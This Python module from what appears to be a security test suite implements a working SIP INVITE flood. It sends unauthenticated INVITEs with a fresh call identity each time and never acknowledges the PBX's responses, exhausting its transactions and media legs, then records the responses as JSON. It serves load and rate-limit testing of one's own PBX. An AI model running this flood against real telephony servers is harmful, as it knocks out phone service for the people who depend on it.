"""An INVITE flood that never ACKs, from one UDP socket: the attacker of issue 8's
"no per-source limits" finding, for tests/security/test_invite_flood.py and for manual
runs against a PBX you own:

    python -m tests.security.invite_flooder --target 10.200.1.1:5060 --bind 10.200.1.2 \\
        --rate 240 --duration 60 --out flood.json

Each INVITE is unauthenticated, asks for `--service` with an SDP offer, and has a new
Call-ID, From tag and branch, so each one is a new call to the PBX. Nothing is ever
acknowledged or answered: not the 200s, not the 503s (so the PBX retransmits them until
its timers give up), not the PBX's BYEs. The RTP the PBX sends to the offer's port is
read and counted (by PBX source address: each is a media leg the flood holds).

What came back for each INVITE is classified by its final response: 200 (answered),
503 (refused, by reason phrase), another final, only provisional responses, or nothing
at all (dropped: rate-limited or lost). The figures go to `--out` as JSON.
"""

from __future__ import annotations

import argparse
import json
import re
import secrets
import selectors
import socket
import time
from collections import Counter
from typing import Any

_STATUS_RE = re.compile(rb"^SIP/2\.0 (\d{3}) ([^\r\n]*)")
_CALL_ID_RE = re.compile(rb"\r\n(?:Call-ID|i)[ \t]*:[ \t]*flood-(\d+)-", re.IGNORECASE)
_RETRY_AFTER_RE = re.compile(rb"\r\nRetry-After[ \t]*:[ \t]*\d", re.IGNORECASE)
# A PBX that takes a few seconds to answer an INVITE has still answered it.
LINGER_S = 4.0


def invite(n: int, run: str, target: tuple[str, int], local: tuple[str, int], service: str,
           rtp_port: int, pad: int) -> bytes:
    """The n-th INVITE; `pad` bytes of SDP attributes make it bigger (the requests a
    flood's transactions keep)."""
    host, port = local
    thost, tport = target
    lines = ["v=0", f"o=flood {n} 1 IN IP4 {host}", "s=-", f"c=IN IP4 {host}", "t=0 0",
             f"m=audio {rtp_port} RTP/AVP 0 101", "a=rtpmap:0 PCMU/8000",
             "a=rtpmap:101 telephone-event/8000"]
    chunk = "a=x-pad:" + "p" * 90
    lines += [chunk] * (pad // (len(chunk) + 2))
    sdp = ("\r\n".join(lines) + "\r\n").encode()
    return (
        f"INVITE sip:{service}@{thost}:{tport} SIP/2.0\r\n"
        f"Via: SIP/2.0/UDP {host}:{port};branch=z9hG4bK-{run}-{n};rport\r\n"
        f"Max-Forwards: 70\r\n"
        f"From: <sip:{100000 + n}@{host}:{port}>;tag={run}{n}\r\n"
        f"To: <sip:{service}@{thost}:{tport}>\r\n"
        f"Call-ID: flood-{n}-{run}@{host}\r\n"
        f"CSeq: 1 INVITE\r\n"
        f"Contact: <sip:{100000 + n}@{host}:{port}>\r\n"
        f"Content-Type: application/sdp\r\n"
        f"Content-Length: {len(sdp)}\r\n\r\n"
    ).encode() + sdp


class Tally:
    """What came back, per INVITE (by the number in its Call-ID)."""

    def __init__(self) -> None:
        self.final: dict[int, tuple[int, str]] = {}
        self.provisional: set[int] = set()
        self.busy_without_retry_after = 0  # 503s that do not say when to come back
        self.responses = 0  # every response datagram, retransmissions included
        self.requests = Counter[str]()  # requests from the PBX (BYE), never answered
        self.rtp_packets = 0
        self.rtp_sources: set[tuple[str, int]] = set()

    def sip(self, data: bytes) -> None:
        status = _STATUS_RE.match(data)
        if status is None:
            self.requests[data.split(b" ", 1)[0].decode("ascii", "replace")[:16]] += 1
            return
        self.responses += 1
        call = _CALL_ID_RE.search(data)
        if call is None:
            return
        n, code = int(call.group(1)), int(status.group(1))
        if code < 200:
            self.provisional.add(n)
        elif n not in self.final:
            self.final[n] = (code, status.group(2).decode("utf-8", "replace"))
            if code == 503 and not _RETRY_AFTER_RE.search(data):
                self.busy_without_retry_after += 1

    def summary(self, sent: int, elapsed_s: float) -> dict[str, Any]:
        finals = Counter(code for code, _ in self.final.values())
        refused = Counter(reason for code, reason in self.final.values() if code == 503)
        return {
            "sent": sent,
            "send_rate": round(sent / elapsed_s, 1) if elapsed_s else 0.0,
            "answered": finals.pop(200, 0),
            "refused": finals.pop(503, 0),
            "refused_by_reason": dict(refused),
            "refused_without_retry_after": self.busy_without_retry_after,
            "other_finals": {str(k): v for k, v in finals.items()},
            "provisional_only": len(self.provisional - set(self.final)),
            "nothing": sent - len(set(self.final) | self.provisional),
            "responses": self.responses,
            "requests_from_pbx": dict(self.requests),
            "rtp_packets": self.rtp_packets,
            "rtp_sources": len(self.rtp_sources),
        }


def flood(target: tuple[str, int], bind: str, rate: float, duration: float, service: str,
          rtp_port: int, pad: int) -> dict[str, Any]:
    sip = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sip.bind((bind, 5060))
    sip.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
    rtp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    rtp.bind((bind, rtp_port))
    for s in (sip, rtp):
        s.setblocking(False)
    selector = selectors.DefaultSelector()
    selector.register(sip, selectors.EVENT_READ, "sip")
    selector.register(rtp, selectors.EVENT_READ, "rtp")
    run = secrets.token_hex(3)
    local = sip.getsockname()
    tally = Tally()
    sent = 0
    start = time.monotonic()
    stop_sending = start + duration
    end = stop_sending + LINGER_S
    try:
        while (now := time.monotonic()) < end:
            # Paced on the clock: the n-th INVITE leaves at start + n / rate.
            while now < stop_sending and start + sent / rate <= now:
                sip.sendto(invite(sent, run, target, local, service, rtp_port, pad), target)
                sent += 1
            next_send = start + sent / rate if now < stop_sending else end
            for key, _ in selector.select(max(0.0, min(next_send, end) - time.monotonic())):
                sock: socket.socket = key.fileobj  # type: ignore[assignment]
                while True:
                    try:
                        data, src = sock.recvfrom(65535)
                    except BlockingIOError:
                        break
                    except OSError:  # ICMP errors: nothing to count
                        continue
                    if key.data == "sip":
                        tally.sip(data)
                    else:
                        tally.rtp_packets += 1
                        tally.rtp_sources.add(src)
    finally:
        selector.close()
        sip.close()
        rtp.close()
    return tally.summary(sent, min(duration, time.monotonic() - start))


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--target", required=True, help="the PBX's SIP address, ip:port")
    parser.add_argument("--bind", required=True, help="this host's address to send from")
    parser.add_argument("--rate", type=float, default=240.0, help="INVITEs per second")
    parser.add_argument("--duration", type=float, default=60.0, help="seconds of flood")
    parser.add_argument("--service", default="*99", help="the user part called")
    parser.add_argument("--rtp-port", type=int, default=40000, help="the offer's RTP port")
    parser.add_argument("--pad", type=int, default=0, help="bytes of SDP padding")
    parser.add_argument("--out", required=True, help="where the JSON figures go")
    args = parser.parse_args()
    host, _, port = args.target.rpartition(":")
    result = flood((host, int(port)), args.bind, args.rate, args.duration, args.service,
                   args.rtp_port, args.pad)
    with open(args.out, "w") as f:
        json.dump(result, f, indent=1)


if __name__ == "__main__":
    main()
